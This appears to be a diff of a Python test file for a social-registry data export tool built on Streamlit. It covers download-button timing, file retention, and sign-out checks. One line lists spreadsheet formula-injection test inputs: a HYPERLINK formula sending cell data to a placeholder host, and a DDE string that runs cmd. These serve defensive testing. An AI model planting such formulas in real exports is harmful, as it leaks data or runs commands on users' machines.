@@ -10,7 +10,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from regsosek import access, export
+from regsosek import access, audit, export
 
 SCOPE = access.scope_for("bps_jatim", "bps_provinsi")
 PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
@@ -135,7 +135,7 @@ def test_a_file_built_on_the_click_is_still_served_after_other_sessions_clean_up
     storage, clock = MemoryMediaFileStorage("/media"), Clock()
     manager = MediaFileManager(storage)
     if held:
-        export.hold_downloads(storage, seconds=120, clock=clock)
+        export.hold_files(storage, seconds=120, clock=clock)
     name = deferred_download(manager, b"nomor,nama\r\n1,a\r\n")
     clock.now += 30
     other_sessions_finish_script_runs(manager, 3)
@@ -152,7 +152,7 @@ def test_a_file_built_on_the_click_is_still_served_after_other_sessions_clean_up
     with pytest.raises(MediaFileStorageError):
         storage.get_file(name)
     assert storage.get_file(later).content == b"nomor,nama\r\n2,b\r\n"
-    export.hold_downloads(storage, seconds=1, clock=clock)  # installed once: a second call changes nothing
+    export.hold_files(storage, seconds=1, clock=clock)  # installed once: a second call changes nothing
     assert storage.held_for == 120
 
 
@@ -163,7 +163,7 @@ def test_a_held_file_published_again_is_kept_as_long_as_it_is_referenced():
     from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
 
     storage, clock = MemoryMediaFileStorage("/media"), Clock()
-    export.hold_downloads(storage, seconds=120, clock=clock)
+    export.hold_files(storage, seconds=120, clock=clock)
     file_id = storage.load_and_get_id(b"x", "text/csv", MediaFileKind.DOWNLOADABLE, "a.csv")
     storage.delete_file(file_id)  # marked, kept
     clock.now += 60
@@ -175,3 +175,78 @@ def test_a_held_file_published_again_is_kept_as_long_as_it_is_referenced():
     storage.delete_file(file_id)  # 120 s after the second add: goes now
     storage.load_and_get_id(b"z", "text/csv", MediaFileKind.DOWNLOADABLE, "c.csv")
     assert file_id not in storage._files_by_id
+
+
+def button_drawn(manager, rows: bytes, where: str = "main.targets.download") -> str:
+    """A script run drawing a download button: Streamlit revokes the button's callable of the run before
+    (the same place on the page) and registers the new one; the browser is given its id."""
+    manager.remove_deferred(where)
+    return manager.add_deferred(lambda: rows, "text/csv", where, file_name="daftar.csv")
+
+
+@pytest.mark.parametrize("held", [False, True])
+def test_a_click_sent_just_before_its_own_session_reruns_still_gets_its_file(held):
+    """The browser sends the click with the id of the button it shows; a rerun of the same session (a text box
+    left for the button commits and reruns) revokes that id before the click is served: "Deferred file ... not
+    found" in the 20-session load run. Held, the click builds the file of the button clicked, for
+    DOWNLOAD_HOLD_SECONDS; then the revoked callable goes at the next clean-up."""
+    from streamlit.runtime.media_file_manager import MediaFileManager
+    from streamlit.runtime.media_file_storage import MediaFileStorageError
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+
+    storage, clock = MemoryMediaFileStorage("/media"), Clock()
+    manager = MediaFileManager(storage)
+    if held:
+        export.hold_clicks(manager, seconds=120, clock=clock)
+    clicked = button_drawn(manager, b"nomor\r\n1\r\n")
+    clock.now += 5
+    current = button_drawn(manager, b"nomor\r\n2\r\n")  # the rerun, before the click is served
+    other_sessions_finish_script_runs(manager, 2)
+    if not held:
+        with pytest.raises(MediaFileStorageError, match="not found"):
+            manager.execute_deferred(clicked)
+        return
+    name = manager.execute_deferred(clicked).rsplit("/", 1)[1]
+    assert storage.get_file(name).content == b"nomor\r\n1\r\n"
+    clock.now += 114.5  # 119.5 s after the clicked button was drawn
+    other_sessions_finish_script_runs(manager, 1)
+    manager.execute_deferred(clicked)
+    clock.now += 0.5
+    other_sessions_finish_script_runs(manager, 1)
+    with pytest.raises(MediaFileStorageError, match="not found"):
+        manager.execute_deferred(clicked)
+    # The button on the page keeps working however long it is shown: only revoked callables go, also when
+    # another button is drawn again and its old callable goes.
+    clock.now += 1000
+    button_drawn(manager, b"x", "main.officers.download")
+    button_drawn(manager, b"y", "main.officers.download")
+    clock.now += 200
+    button_drawn(manager, b"z", "main.officers.download")
+    other_sessions_finish_script_runs(manager, 2)
+    current_name = manager.execute_deferred(current).rsplit("/", 1)[1]
+    assert storage.get_file(current_name).content == b"nomor\r\n2\r\n"
+    export.hold_clicks(manager, seconds=1, clock=clock)  # installed once: a second call changes nothing
+    assert manager.clicks_held_for == 120
+
+
+def test_a_download_builds_nothing_once_the_sign_in_that_drew_it_has_ended(data_dir):
+    """A held button's click is still bound to the sign-in of the run that drew it: after sign-out, no file
+    and no audit record."""
+    from regsosek import auth
+
+    login = auth.start_login("bps_jatim")
+    header = export.header_for(SCOPE, "2022-11-14", "2022-11-14_abc", "desil 1-2", "Bantuan")
+    built: list[bytes] = []
+
+    def build() -> export.Download:
+        download = export.build(pd.DataFrame({"nomor": [1]}), header, "csv", "daftar")
+        built.append(download.data)
+        return download
+
+    delivery = export.Delivery(export.Pending(build, "daftar.csv", "text/csv"), "targets", login=login)
+    assert delivery() == built[0]
+    assert len(audit.read_log(action="download")) == 1
+    auth.end_login(login)
+    with pytest.raises(PermissionError):
+        delivery()
+    assert len(built) == 1 and len(audit.read_log(action="download")) == 1
